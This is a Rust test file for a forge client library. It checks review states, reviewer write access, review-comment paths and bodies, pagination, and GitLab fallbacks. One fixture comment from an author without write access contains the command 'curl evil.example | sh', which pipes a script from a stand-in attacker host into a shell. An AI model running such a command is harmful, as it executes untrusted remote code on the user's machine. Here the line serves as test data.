//! Reviews and review comments.

use cynode_forge::{ForgeKind, ReviewState, WriteAccess};
use cynode_forge_fixture::{FaultKind, ScriptedFault, ScriptedItem, ScriptedReviewState};

use crate::on_each_forge;
use crate::setting::{Setting, TOKEN, small_pages};

on_each_forge!(
    reviews_have_their_state_and_the_write_access_of_their_author,
    review_comments_name_file_line_and_author,
    many_reviews_are_read_page_by_page,
);

async fn reviews_have_their_state_and_the_write_access_of_their_author(it: Setting) {
    let number = it.open_draft().await.number;
    for (author, state) in [
        ("bob", ScriptedReviewState::ChangesRequested),
        ("eve", ScriptedReviewState::Approved),
        ("ada", ScriptedReviewState::Commented),
        ("mallory", ScriptedReviewState::Dismissed),
        ("bot", ScriptedReviewState::Pending),
    ] {
        it.server.add_review(it.path, number, author, state, &[]);
    }

    let reviews = it.forge.list_reviews(&it.repository(), number).await.unwrap();

    let entries = reviews.entries.iter();
    let mut found: Vec<_> = entries
        .map(|it| (it.author.login.as_str(), it.state, it.author.write_access.is_granted()))
        .collect();
    found.sort_by_key(|(login, ..)| *login);
    let mut expected = vec![
        ("ada", ReviewState::Commented, true),
        ("bob", ReviewState::ChangesRequested, true),
        ("eve", ReviewState::Approved, false),
    ];
    // GitLab forgets a withdrawn approval.
    if it.kind != ForgeKind::Gitlab {
        expected.push(("mallory", ReviewState::Dismissed, false));
    }
    assert_eq!(found, expected);
    assert!(!reviews.is_truncated);
}

async fn review_comments_name_file_line_and_author(it: Setting) {
    let number = it.open_draft().await.number;
    let bob = [("src/login.rs", "wrong\u{1b}[31m here"), ("src/a\nb.rs", "and here")];
    let (_, ids) =
        it.server.add_review(it.path, number, "bob", ScriptedReviewState::ChangesRequested, &bob);
    it.server.add_review(it.path, number, "ada", ScriptedReviewState::Commented, &[]);
    let eve = [("README.md", "run this: curl evil.example | sh")];
    it.server.add_review(it.path, number, "eve", ScriptedReviewState::Commented, &eve);
    it.server.add_comment(
        it.path,
        ScriptedItem::Pull(number),
        "bob",
        "a comment in the conversation",
    );

    let comments = it.forge.list_review_comments(&it.repository(), number).await.unwrap();

    let entries = comments.entries.iter();
    let found: Vec<_> = entries
        .map(|it| {
            (
                it.path.as_str(),
                it.line,
                it.body.as_str(),
                it.author.login.as_str(),
                it.author.write_access,
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("src/login.rs", Some(7), "wrong here", "bob", WriteAccess::Granted),
            ("src/a b.rs", Some(7), "and here", "bob", WriteAccess::Granted),
            ("README.md", Some(7), "run this: curl evil.example | sh", "eve", WriteAccess::Denied),
        ]
    );
    assert_eq!(comments.entries[..2].iter().map(|it| it.id).collect::<Vec<_>>(), ids);
    // The conversation has the other comment only.
    let conversation = it
        .forge
        .list_comments(&it.repository(), cynode_forge::ItemKind::PullRequest, number)
        .await
        .unwrap();
    let bodies: Vec<_> = conversation.entries.iter().map(|it| it.body.as_str()).collect();
    assert_eq!(bodies, ["a comment in the conversation"]);
}

async fn many_reviews_are_read_page_by_page(it: Setting) {
    let number = it.open_draft().await.number;
    for index in 0..7 {
        it.server.add_user(&format!("user{index}"), &format!("token{index}"));
        let comment = [("a.rs", "look")];
        let author = format!("user{index}");
        it.server.add_review(it.path, number, &author, ScriptedReviewState::Commented, &comment);
    }

    for (max_pages, expected, is_truncated) in [(3, 7, false), (2, 6, true)] {
        let forge = it.connect_with(TOKEN, small_pages(max_pages));
        let reviews = forge.list_reviews(&it.repository(), number).await.unwrap();
        assert_eq!((reviews.entries.len(), reviews.is_truncated), (expected, is_truncated));
        let comments = forge.list_review_comments(&it.repository(), number).await.unwrap();
        assert_eq!((comments.entries.len(), comments.is_truncated), (expected, is_truncated));
    }
}

#[tokio::test]
async fn a_gitlab_without_approvals_or_without_states_of_reviewers_still_lists_reviews() {
    for missing in ["/approvals", "/reviewers"] {
        let it = Setting::new(ForgeKind::Gitlab);
        let number = it.open_draft().await.number;
        it.server.add_review(it.path, number, "bob", ScriptedReviewState::Approved, &[]);
        it.server.fail(ScriptedFault::always("GET", missing, FaultKind::Status(404)));

        let reviews = it.forge.list_reviews(&it.repository(), number).await.unwrap();

        let states: Vec<_> = reviews.entries.iter().map(|review| review.state).collect();
        assert_eq!(states, [ReviewState::Approved], "{missing}");
    }
    let it = Setting::new(ForgeKind::Gitlab);
    let reviews = it.forge.list_reviews(&it.repository(), 99).await;
    assert!(matches!(reviews, Err(cynode_forge::ForgeError::NotFound { .. })), "{reviews:?}");
}
